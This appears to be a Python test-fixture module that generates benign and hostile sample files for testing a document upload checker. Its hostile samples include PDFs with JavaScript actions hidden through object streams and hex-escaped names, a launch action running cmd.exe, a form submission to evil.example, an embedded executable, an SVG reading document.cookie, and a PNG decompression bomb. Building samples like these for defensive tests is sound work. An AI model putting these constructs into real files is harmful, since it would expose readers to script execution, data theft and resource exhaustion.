"""Evidence files for the tests, honest and hostile, made as real files with pikepdf and
Pillow (or byte by byte where a tool would refuse to write them).

The EICAR test string is put together here rather than written out whole, so that a
virus scanner on a developer's machine does not take this module for a virus.
"""

import functools
import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PAYSLIP_TEXT = b"Payslip - Alex Smith - March 2026 - Net pay 1,234.56"
HTML = b"<!DOCTYPE html><html><body><script>fetch('/participants/')</script></body></html>"
WINDOWS_EXECUTABLE = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"This program cannot be run in DOS mode."
ELF_EXECUTABLE = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 44
SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)


def _javascript_action() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('hello');"))


def _saved(pdf: pikepdf.Pdf, **options) -> bytes:
    buffer = io.BytesIO()
    pdf.save(buffer, **options)
    return buffer.getvalue()


def _payslip(text: bytes = PAYSLIP_TEXT) -> pikepdf.Pdf:
    """A one-page A4 PDF with a line of text, as a payroll system might make."""
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.obj.Resources = Dictionary(Font=Dictionary(F1=pdf.make_indirect(font)))
    page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 770 Td (" + text + b") Tj ET")
    pdf.docinfo[Name.Title] = "Payslip"
    return pdf


def payslip_pdf(text: bytes = PAYSLIP_TEXT) -> bytes:
    return _saved(_payslip(text))


def payslip_pdf_with_object_streams() -> bytes:
    """Compressed objects inside object streams, as most PDF writers now save them."""
    return _saved(_payslip(), object_stream_mode=pikepdf.ObjectStreamMode.generate)


def payslip_pdf_with_a_web_link() -> bytes:
    """A link to the employer's website: an action, but not an active one."""
    pdf = _payslip()
    link = Dictionary(
        Type=Name.Annot,
        Subtype=Name.Link,
        Rect=[72, 760, 300, 780],
        A=Dictionary(S=Name.URI, URI=String("https://harbour-bakery.example/payroll")),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(link)])
    pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.Fit])
    return _saved(pdf)


def pdf_with_javascript_in_the_names_tree() -> bytes:
    pdf = _payslip()
    scripts = Dictionary(Names=Array([String("init"), pdf.make_indirect(_javascript_action())]))
    pdf.Root.Names = Dictionary(JavaScript=scripts)
    return _saved(pdf)


def pdf_with_javascript_on_open() -> bytes:
    pdf = _payslip()
    pdf.Root.OpenAction = _javascript_action()
    return _saved(pdf)


def pdf_with_javascript_in_an_annotation() -> bytes:
    """JavaScript behind a link, inside a compressed object stream: the words JavaScript
    and /JS do not appear in the file's bytes at all."""
    pdf = _payslip()
    link = Dictionary(
        Type=Name.Annot, Subtype=Name.Link, Rect=[72, 760, 300, 780], A=_javascript_action()
    )
    pdf.pages[0].obj.Annots = Array([link])
    return _saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_javascript_on_page_open() -> bytes:
    """An additional action (/AA) run when the page is opened."""
    pdf = _payslip()
    pdf.pages[0].obj.AA = Dictionary(O=_javascript_action())
    return _saved(pdf)


def pdf_with_hex_escaped_javascript() -> bytes:
    """/OpenAction << /S /JavaScript /JS … >> with the names written in hex escapes
    (/#4A#53 is /JS), hand-written because pikepdf would write the names plainly."""
    return (
        b"%PDF-1.4\n"
        b"1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 4 0 R>> endobj\n"
        b"2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n"
        b"3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>> endobj\n"
        b"4 0 obj <</#53 /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (app.alert(1))>> endobj\n"
        b"trailer <</Root 1 0 R /Size 5>>\n"
        b"%%EOF\n"
    )


def pdf_that_launches_a_program() -> bytes:
    pdf = _payslip()
    pdf.Root.OpenAction = Dictionary(
        S=Name.Launch, Win=Dictionary(F=String("cmd.exe"), P=String("/c calc.exe"))
    )
    return _saved(pdf)


def pdf_that_submits_a_form() -> bytes:
    pdf = _payslip()
    pdf.Root.OpenAction = Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/"))
    )
    return _saved(pdf)


def pdf_with_an_attached_executable() -> bytes:
    pdf = _payslip()
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, WINDOWS_EXECUTABLE)
    return _saved(pdf)


def pdf_with_rich_media() -> bytes:
    pdf = _payslip()
    flash = Dictionary(
        Type=Name.Annot,
        Subtype=Name.RichMedia,
        Rect=[0, 0, 100, 100],
        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([]))),
    )
    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(flash)])
    return _saved(pdf)


def pdf_with_an_xfa_form() -> bytes:
    pdf = _payslip()
    xfa = pdf.make_stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)
    return _saved(pdf)


def pdf_with_a_password() -> bytes:
    return _saved(_payslip(), encryption=pikepdf.Encryption(owner="owner", user="secret"))


def pdf_encrypted_without_a_password() -> bytes:
    """Opens without a password, but is encrypted (to stop printing or copying)."""
    return _saved(_payslip(), encryption=pikepdf.Encryption(owner="owner", user=""))


def pdf_with_eicar_inside() -> bytes:
    """A valid PDF with the EICAR test string in a compressed stream."""
    pdf = _payslip()
    pdf.Root.Metadata = pdf.make_stream(EICAR)
    return _saved(pdf, compress_streams=True, fix_metadata_version=False)


def pdf_with_html_inside() -> bytes:
    """A PDF that a browser sniffing the content would take for a web page."""
    header, rest = payslip_pdf().split(b"\n", 1)
    return header + b"\n%" + HTML + b"\n" + rest


def truncated_pdf() -> bytes:
    data = payslip_pdf()
    return data[: len(data) // 2]


def broken_pdf() -> bytes:
    """A PDF header and end with nothing readable between them."""
    return b"%PDF-1.7\n" + b"\x00\x01garbage\xfe" * 40 + b"\n%%EOF\n"


def jpeg(size: tuple[int, int] = (60, 40), colour: str = "teal") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, "JPEG")
    return buffer.getvalue()


def png(size: tuple[int, int] = (60, 40), colour: str = "teal") -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, colour).save(buffer, "PNG")
    return buffer.getvalue()


def photo_on_its_side() -> bytes:
    """A phone photo stored sideways (red half on the left, blue on the right) with EXIF
    saying to turn it a quarter clockwise to show it (orientation 6), and the camera and
    a GPS position in its EXIF."""
    image = Image.new("RGB", (80, 40), "blue")
    image.paste("red", (0, 0, 40, 40))
    exif = Image.Exif()
    exif[0x0112] = 6  # Orientation
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0)}  # GPSInfo
    buffer = io.BytesIO()
    image.save(buffer, "JPEG", exif=exif, quality=95, comment=b"taken at home")
    return buffer.getvalue()


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("payload.exe", WINDOWS_EXECUTABLE)
    return buffer.getvalue()


@functools.cache
def png_bomb(side: int = 30_000) -> bytes:
    """A black-and-white PNG of side × side pixels (900 million), about 100 KB on disk."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    row = b"\x00" + b"\x00" * ((side + 7) // 8)
    compressor = zlib.compressobj(9)
    pixels = b"".join(compressor.compress(row) for _ in range(side)) + compressor.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )
